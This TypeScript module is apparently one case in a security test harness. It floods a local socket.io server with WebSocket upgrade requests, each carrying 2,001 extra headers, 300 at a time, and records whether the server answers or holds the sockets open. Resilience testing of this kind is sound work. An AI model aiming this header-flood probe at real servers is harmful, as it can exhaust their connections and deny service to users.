import { randomBytes } from 'node:crypto';
import net from 'node:net';
import { ATTACKER_ADDRESS, Tally, before, type Attack } from '../attack-kit.ts';

const SOCKETS_PER_ROUND = 300;
const MAX_ROUNDS = 5;
const EXTRA_HEADERS = 2001;
const WATCH_MS = 2000;

function upgradeRequest(port: number): string {
  const extra = Array.from({ length: EXTRA_HEADERS }, (_, i) => `X-H-${i}: v\r\n`).join('');
  return (
    'GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\n' +
    `Host: 127.0.0.1:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
    `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n${extra}\r\n`
  );
}

/** What the server did within WATCH_MS of the request: its status line, a close, or nothing. */
function probe(port: number, request: string, sockets: net.Socket[]): Promise<string> {
  return new Promise((resolve) => {
    const socket = net.connect({ host: '127.0.0.1', port, localAddress: ATTACKER_ADDRESS }, () => socket.write(request));
    sockets.push(socket);
    const timer = setTimeout(() => resolve('still open after 2 s'), WATCH_MS);
    const settle = (outcome: string) => (clearTimeout(timer), resolve(outcome));
    socket.once('data', (data) => settle(`answered ${data.toString('latin1').split('\r\n')[0].slice(0, 60)}`));
    socket.once('close', () => settle('closed without an answer'));
    socket.on('error', (error) => settle(`failed: ${(error as NodeJS.ErrnoException).code ?? error.message}`));
  });
}

/**
 * WebSocket upgrades carrying 2,001 extra headers each, a few hundred at a time: does the
 * server answer and close them, or hold them open?
 */
export const manyHeaders: Attack = async ({ port, deadline }) => {
  const outcomes = new Tally();
  let rounds = 0;
  for (; rounds < MAX_ROUNDS && before(deadline); rounds++) {
    const sockets: net.Socket[] = [];
    const request = upgradeRequest(port);
    const results = await Promise.all(Array.from({ length: SOCKETS_PER_ROUND }, () => probe(port, request, sockets)));
    for (const result of results) outcomes.add(result);
    for (const socket of sockets) socket.destroy();
  }
  return [
    `upgrade requests sent: ${rounds * SOCKETS_PER_ROUND} (${rounds} rounds of ${SOCKETS_PER_ROUND} at once, ${EXTRA_HEADERS} extra headers, ${(upgradeRequest(port).length / 1024).toFixed(1)} KB each)`,
    `within 2 s: ${outcomes}`,
  ];
};
